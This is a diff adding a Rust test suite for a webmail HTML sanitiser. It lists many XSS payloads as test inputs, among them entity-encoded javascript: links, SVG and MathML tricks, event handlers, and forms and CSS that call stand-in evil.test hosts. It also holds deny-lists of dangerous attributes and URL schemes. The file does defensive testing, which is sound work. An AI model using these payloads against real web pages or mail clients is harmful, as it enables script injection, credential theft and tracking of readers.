@@ -1,0 +1,427 @@
+//! The sanitiser against the known webmail XSS classes. Every test parses
+//! the *output* again and checks what a browser would see (entity-decoded
+//! attribute values), not just the absence of a substring.
+
+use super::*;
+use html5ever::tendril::StrTendril;
+use html5ever::tokenizer::{
+    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
+};
+use std::cell::RefCell;
+
+#[derive(Default)]
+struct Collect {
+    tags: RefCell<Vec<Tag>>,
+    text: RefCell<String>,
+}
+
+impl TokenSink for Collect {
+    type Handle = ();
+    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
+        match token {
+            Token::TagToken(t) if t.kind == TagKind::StartTag => self.tags.borrow_mut().push(t),
+            Token::CharacterTokens(s) => self.text.borrow_mut().push_str(&s),
+            _ => {}
+        }
+        TokenSinkResult::Continue
+    }
+}
+
+/// A start tag: name and (attribute, decoded value) pairs.
+type StartTag = (String, Vec<(String, String)>);
+
+/// Start tags of `html`, plus the text.
+fn parse(html: &str) -> (Vec<StartTag>, String) {
+    let tok = Tokenizer::new(Collect::default(), TokenizerOpts::default());
+    let input = BufferQueue::default();
+    input.push_back(StrTendril::from(html));
+    let _ = tok.feed(&input);
+    tok.end();
+    let tags = tok
+        .sink
+        .tags
+        .borrow()
+        .iter()
+        .map(|t| {
+            (
+                t.name.to_string(),
+                t.attrs
+                    .iter()
+                    .map(|a| (a.name.local.to_string(), a.value.to_string()))
+                    .collect(),
+            )
+        })
+        .collect();
+    let text = tok.sink.text.borrow().clone();
+    (tags, text)
+}
+
+fn clean(html: &str) -> String {
+    sanitize_html(html, &SanitizeOptions::default()).html
+}
+
+/// The invariants every output must satisfy, whatever the input.
+fn assert_harmless(out: &str) {
+    let (tags, _) = parse(out);
+    for (name, attrs) in &tags {
+        assert!(TAGS.contains(&name.as_str()), "element <{name}> in {out}");
+        for (attr, value) in attrs {
+            assert!(!attr.starts_with("on"), "event handler {attr} in {out}");
+            assert!(
+                !matches!(
+                    attr.as_str(),
+                    "srcset"
+                        | "background"
+                        | "action"
+                        | "formaction"
+                        | "srcdoc"
+                        | "xlink:href"
+                        | "http-equiv"
+                ),
+                "attribute {attr} in {out}"
+            );
+            let squashed: String = value
+                .chars()
+                .filter(|c| !c.is_whitespace() && !c.is_control())
+                .collect::<String>()
+                .to_ascii_lowercase();
+            for bad in [
+                "javascript:",
+                "vbscript:",
+                "data:text",
+                "data:image/svg",
+                "expression(",
+                "url(",
+            ] {
+                assert!(
+                    !squashed.contains(bad),
+                    "{bad} in {attr}={value:?} of {out}"
+                );
+            }
+            if attr == "href" {
+                assert!(
+                    squashed.starts_with("http:")
+                        || squashed.starts_with("https:")
+                        || squashed.starts_with("mailto:")
+                        || squashed.starts_with('#'),
+                    "href {value:?} in {out}"
+                );
+            }
+            if attr == "src" {
+                assert!(
+                    squashed.starts_with("http:")
+                        || squashed.starts_with("https:")
+                        || squashed.starts_with("data:image/"),
+                    "src {value:?} in {out}"
+                );
+            }
+        }
+    }
+}
+
+fn attr_values(out: &str, tag: &str, attr: &str) -> Vec<String> {
+    parse(out)
+        .0
+        .into_iter()
+        .filter(|(n, _)| n == tag)
+        .flat_map(|(_, a)| a.into_iter().filter(|(k, _)| k == attr).map(|(_, v)| v))
+        .collect()
+}
+
+#[test]
+fn keeps_ordinary_formatting_tables_and_links() {
+    let out = clean(
+        r##"<p style="color: red; font-weight: bold">Hi <b>there</b></p>
+<table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#eee">cell</td></tr></table>
+<a href="https://example.test/x?a=1&amp;b=2">link</a> <a href="mailto:a@b.test">mail</a> <a href="#top">top</a>"##,
+    );
+    assert_harmless(&out);
+    assert!(
+        out.contains(r#"<p style="color: red; font-weight: bold">"#),
+        "{out}"
+    );
+    assert!(out.contains("<b>there</b>"));
+    assert!(out.contains(r#"colspan="2""#));
+    assert_eq!(
+        attr_values(&out, "a", "href"),
+        ["https://example.test/x?a=1&b=2", "mailto:a@b.test", "#top"]
+    );
+    assert!(
+        attr_values(&out, "a", "rel")
+            .iter()
+            .all(|r| r == "noopener noreferrer")
+    );
+    assert!(
+        attr_values(&out, "a", "target")
+            .iter()
+            .all(|t| t == "_blank")
+    );
+    assert_eq!(attr_values(&out, "a", "target").len(), 3);
+}
+
+#[test]
+fn scripts_and_event_handlers_are_removed() {
+    for input in [
+        "<script>alert(1)</script>ok",
+        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>ok",
+        "<img src=x onerror=alert(1)>ok",
+        "<body onload=alert(1)>ok",
+        "<p onclick=\"alert(1)\" onmouseover='x'>ok</p>",
+        "<div style=\"x\" ONERROR=alert(1)>ok</div>",
+        "<details open ontoggle=alert(1)>ok</details>",
+        "<noscript><img src=x onerror=alert(1)></noscript>ok",
+        "<template><script>alert(1)</script></template>ok",
+    ] {
+        let out = clean(input);
+        assert_harmless(&out);
+        assert!(
+            !out.to_ascii_lowercase().contains("alert"),
+            "{input} → {out}"
+        );
+        assert!(out.contains("ok"), "{input} → {out}");
+    }
+}
+
+#[test]
+fn javascript_links_in_every_disguise_are_dropped() {
+    for href in [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        " javascript:alert(1)",
+        "\u{1}javascript:alert(1)",
+        "&#106;avascript:alert(1)",
+        "&#x6A;avascript:alert(1)",
+        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
+        "jav&#x61;script:alert(1)",
+        "java&#x09;script:alert(1)",
+        "java&Tab;script:alert(1)",
+        "java&NewLine;script:alert(1)",
+        "java\nscript:alert(1)",
+        "jav\u{200B}ascript:alert(1)",
+        "vbscript:msgbox(1)",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "data:text/html;base64,PHNjcmlw\n dD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "da\nta:text/html,<script>alert(1)</script>",
+        "d&#x61;ta:text/html,x",
+        "file:///etc/passwd",
+        "/api/mailboxes/1/messages/2",
+        "relative.html",
+    ] {
+        let input = format!(r#"<a href="{href}">click</a>"#);
+        let out = clean(&input);
+        assert_harmless(&out);
+        assert!(attr_values(&out, "a", "href").is_empty(), "{input} → {out}");
+        assert!(out.contains("click"), "{out}");
+    }
+}
+
+#[test]
+fn svg_and_mathml_are_removed_with_their_content() {
+    for input in [
+        r#"<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text x=20 y=20>X</text></a></svg>"#,
+        "<svg><a><animate attributeName=\"href\" values=\"  java\tscript:alert(1)\"/><text>X</text></a></svg>",
+        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
+        r##"<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>"##,
+        r#"<svg><filter><feImage href="https://evil.test/x.png"/></filter></svg>"#,
+        r#"<svg><script>alert(1)</script></svg>"#,
+        r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
+        r#"<math href="javascript:alert(1)">X</math>"#,
+        r#"<svg><foreignObject><a href="javascript:alert(1)">X</a></foreignObject></svg>"#,
+    ] {
+        let out = clean(&format!("{input}<p>after</p>"));
+        assert_harmless(&out);
+        assert_eq!(out, "<p>after</p>", "{input}");
+    }
+}
+
+#[test]
+fn forms_frames_and_document_level_elements_are_removed() {
+    for input in [
+        r#"<form action="https://evil.test/steal"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>"#,
+        r#"<meta http-equiv="refresh" content="0;url=https://evil.test">"#,
+        r#"<base href="https://evil.test/">"#,
+        r#"<link rel="stylesheet" href="https://evil.test/x.css">"#,
+        r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
+        r#"<iframe src="https://evil.test"></iframe>"#,
+        r#"<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">"#,
+        r#"<style>body{background:url(https://evil.test/track)}</style>"#,
+        r#"<textarea>secret</textarea><select><option>x</option></select>"#,
+        r#"<video poster="https://evil.test/p.png"><source src="x"></video>"#,
+    ] {
+        let out = clean(&format!("{input}<p>after</p>"));
+        assert_harmless(&out);
+        assert!(!out.contains("evil"), "{input} → {out}");
+        assert!(out.ends_with("<p>after</p>"), "{input} → {out}");
+        let (tags, _) = parse(&out);
+        assert!(tags.iter().all(|(n, _)| n == "p"), "{input} → {out}");
+    }
+}
+
+#[test]
+fn dangerous_css_declarations_are_dropped_and_the_rest_kept() {
+    let cases = [
+        (
+            "background:url(//evil.test/t.png); color: red",
+            "color: red",
+        ),
+        (
+            "background: URL( 'https://evil.test' ); color:red",
+            "color: red",
+        ),
+        (
+            r"background: u\rl(https://evil.test); color:red",
+            "color: red",
+        ),
+        (
+            r"background: \75 rl(https://evil.test); color:red",
+            "color: red",
+        ),
+        (
+            "background: u/**/rl(https://evil.test); color:red",
+            "color: red",
+        ),
+        ("width: expression(alert(1)); color:red", "color: red"),
+        ("width: EXPRESSION (alert(1)); color:red", "color: red"),
+        ("behavior: url(x.htc); color:red", "color: red"),
+        ("-moz-binding: url(x.xml#xss); color:red", "color: red"),
+        (
+            "position: fixed; top: 0; left: 0; width: 100%; z-index: 9999",
+            "top: 0; left: 0; width: 100%; z-index: 9999",
+        ),
+        ("POSITION: Absolute; color:red", "color: red"),
+        ("position: sticky", ""),
+        ("position: relative", "position: relative"),
+        (
+            "background-image: image-set('https://evil.test/a.png' 1x)",
+            "",
+        ),
+        ("list-style: javascript:alert(1)", ""),
+        (
+            "@import 'https://evil.test/x.css'; color: red",
+            "color: red",
+        ),
+        (
+            "font-family: 'Helvetica Neue', Arial; color: #333",
+            "font-family: 'Helvetica Neue', Arial; color: #333",
+        ),
+    ];
+    for (input, expected) in cases {
+        assert_eq!(filter_style(input), expected, "{input}");
+        let out = clean(&format!(
+            r#"<div style="{}">x</div>"#,
+            input.replace('"', "&quot;")
+        ));
+        assert_harmless(&out);
+        let styles = attr_values(&out, "div", "style");
+        if expected.is_empty() {
+            assert!(styles.is_empty(), "{input} → {out}");
+        } else {
+            assert_eq!(styles, [expected], "{input} → {out}");
+        }
+    }
+}
+
+#[test]
+fn style_with_entity_encoded_url_is_caught_after_html_decoding() {
+    let out = clean(r#"<p style="background:&#117;rl(https://evil.test/t)">x</p>"#);
+    assert_harmless(&out);
+    assert!(!out.contains("evil"), "{out}");
+}
+
+#[test]
+fn remote_images_are_blocked_by_default_without_leaking_the_url() {
+    let input = r#"<p>Hello</p><img src="https://tracker.evil.test/p.gif?u=me" alt="logo" width="1"><img src="//cdn.evil.test/x.png"><img src="http://plain.evil.test/y.png" srcset="https://evil.test/a.png 2x"><table background="https://evil.test/bg.png"><tr><td background="https://evil.test/td.png">x</td></tr></table>"#;
+    let res = sanitize_html(input, &SanitizeOptions::default());
+    assert_harmless(&res.html);
+    assert!(res.remote_images);
+    assert!(!res.html.contains("evil"), "{}", res.html);
+    assert!(!res.html.contains("http"), "{}", res.html);
+    assert_eq!(attr_values(&res.html, "img", "alt"), ["logo"]);
+    assert!(attr_values(&res.html, "img", "src").is_empty());
+}
+
+#[test]
+fn remote_images_are_kept_when_allowed() {
+    let input =
+        r#"<img src="https://img.example.test/p.png" alt="a"><img src="//cdn.example.test/x.png">"#;
+    let res = sanitize_html(
+        input,
+        &SanitizeOptions {
+            allow_remote_images: true,
+            ..Default::default()
+        },
+    );
+    assert_harmless(&res.html);
+    assert!(res.remote_images);
+    assert_eq!(
+        attr_values(&res.html, "img", "src"),
+        [
+            "https://img.example.test/p.png",
+            "https://cdn.example.test/x.png"
+        ]
+    );
+}
+
+#[test]
+fn cid_images_become_data_urls_and_unknown_cids_vanish() {
+    let mut inline = HashMap::new();
+    inline.insert(
+        "logo@example.test".to_string(),
+        "data:image/png;base64,iVBORw0KGgo=".to_string(),
+    );
+    let res = sanitize_html(
+        r#"<img src="cid:logo@example.test" alt="logo"><img src="CID:missing@x" alt="gone">"#,
+        &SanitizeOptions {
+            allow_remote_images: false,
+            inline_images: inline,
+        },
+    );
+    assert_harmless(&res.html);
+    assert!(!res.remote_images);
+    assert_eq!(
+        attr_values(&res.html, "img", "src"),
+        ["data:image/png;base64,iVBORw0KGgo="]
+    );
+}
+
+#[test]
+fn only_raster_data_images_are_allowed() {
+    let ok = clean(r#"<img src="data:image/png;base64,iVBOR w0KGgo=">"#);
+    assert_eq!(
+        attr_values(&ok, "img", "src"),
+        ["data:image/png;base64,iVBORw0KGgo="]
+    );
+    for bad in [
+        "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+",
+        "data:image/svg+xml,<svg onload=alert(1)>",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        "data:image/png",
+        "javascript:alert(1)",
+    ] {
+        let out = clean(&format!(r#"<img src="{bad}">"#));
+        assert_harmless(&out);
+        assert!(attr_values(&out, "img", "src").is_empty(), "{bad} → {out}");
+    }
+}
+
+#[test]
+fn html_documents_are_reduced_to_their_body_content() {
+    let out = clean(
+        "<!doctype html><html><head><title>T</title><meta charset=utf-8><style>p{}</style></head><body><p>Body</p></body></html>",
+    );
+    assert_eq!(out, "<p>Body</p>");
+}
+
+#[test]
+fn comments_and_conditional_comments_are_removed() {
+    let out = clean("<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p><!-- c -->");
+    assert_eq!(out, "<p>x</p>");
+}
+
+#[test]
+fn escape_html_escapes_markup() {
+    assert_eq!(
+        escape_html(r#"<a href="x">&'"#),
+        "&lt;a href=&quot;x&quot;&gt;&amp;&#39;"
+    );
+}
